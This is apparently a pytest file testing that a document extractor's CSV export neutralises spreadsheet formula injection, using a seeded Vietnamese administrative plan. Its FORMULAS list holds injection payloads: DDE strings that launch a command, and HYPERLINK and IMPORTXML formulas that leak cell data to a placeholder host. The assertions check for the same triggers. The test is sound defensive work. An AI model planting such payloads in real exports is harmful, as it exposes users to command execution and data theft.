"""Documents full of formulas: no cell of a table is run, every other cell is what it was."""

from __future__ import annotations

import csv
from itertools import zip_longest
from pathlib import Path

import pytest

from extractor.export.csv import read_rows
from extractor.export.verify import verify
from extractor.pipeline import facts_of
from extractor.read import read_bytes
from extractor.tabulate import TABLES, Table, Type, rows_of

from .running import convert

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Xem")',
    '-HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Xem")',
    '=IMPORTXML(CONCAT("http://127.0.0.1:9/?v=",A1),"//a")',
    "=1+1+Đạt 95%",
    "＝1+1",
    "=95%",
)
HARMLESS = ("- Phối hợp với Sở Y tế (nếu có);", "+ Rà soát, thống kê 12 xã.", "'Sông Lam' là báo.")
# Formulas where each kind of cell takes its text from: title, headings, tasks, figures, agencies.
DOCUMENT = "\n\n".join(
    (
        "=ỦY BAN NHÂN DÂN TỈNH VÂN KHÊ",
        "Số: =1+1/KH-UBND",
        "KẾ HOẠCH",
        "=1+1",
        "I. =SUM(A1:A9)",
        "1. =Đến năm 2030, đạt 95% số hộ;",
        "a) -5% số hộ so với năm 2024;",
        "II. TỔ CHỨC THỰC HIỆN",
        "1. =Sở Y tế",
        *(f"- {formula}" for formula in FORMULAS),
        *FORMULAS,
        *HARMLESS,
        "@Sở Y tế chủ trì, phối hợp với =UBND các xã báo cáo trước ngày 15/12 hằng năm;",
        "Căn cứ =Quyết định số 12/QĐ-UBND ngày 03/4/2025;",
        "Nơi nhận:",
        "- =Sở Y tế;",
        "=TM. ỦY BAN NHÂN DÂN",
        "=CHỦ TỊCH",
        "=1+1",
    )
).encode()


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("formulas")
    (base / "in").mkdir()
    (base / "in" / "=1+1.txt").write_bytes(DOCUMENT)
    run = convert(base, base / "in", "--out", base / "out")
    assert (run.code, run.errors.endswith("out: 1 document converted\n")) == (0, True)
    return base / "out"


@pytest.mark.parametrize("table", TABLES, ids=lambda table: table.name)
def test_no_cell_is_run(out: Path, table: Table) -> None:
    for row in cells(out, table):
        for field, cell in zip(table.fields, row, strict=False):
            if cell in field.choices:  # targets.comparator is "=" alone: no formula
                continue
            assert not cell.startswith(("=", "@", "\t", "\r", "\n", "＝", "＠"))
            assert not (cell.startswith(("+", "-")) and ("cmd|" in cell or "HYPERLINK" in cell))


@pytest.mark.parametrize("table", TABLES, ids=lambda table: table.name)
def test_only_free_text_is_changed_and_all_comes_back(out: Path, table: Table) -> None:
    facts = facts_of(read_bytes(DOCUMENT, "=1+1.txt"))
    extracted = list(rows_of(facts)[table.name])
    files = (cells(out, table), read_rows(out / f"{table.name}.csv", table))
    for row, printed, back in zip_longest(extracted, *files):
        for field, value, cell, text in zip(table.fields, row, printed, back, strict=False):
            if field.is_free_text:
                assert text == (value or "")
                assert cell in (text, f"'{text}")
            else:
                assert cell == text
            if field.type in (Type.NUMBER, Type.INTEGER) and value is not None:
                assert float(cell) == float(str(value))


def test_what_is_harmless_is_not_changed(out: Path) -> None:
    texts = {row[TABLES[1].index("text")] for row in cells(out, TABLES[1])}
    for line in HARMLESS:
        assert line in texts
    assert texts & {f"'{formula}" for formula in FORMULAS}


def test_offsets_hold(out: Path) -> None:
    assert list(verify(out)) == []


def cells(out: Path, table: Table) -> list[list[str]]:
    """The cells as a spreadsheet reads them."""
    with (out / f"{table.name}.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))[1:]
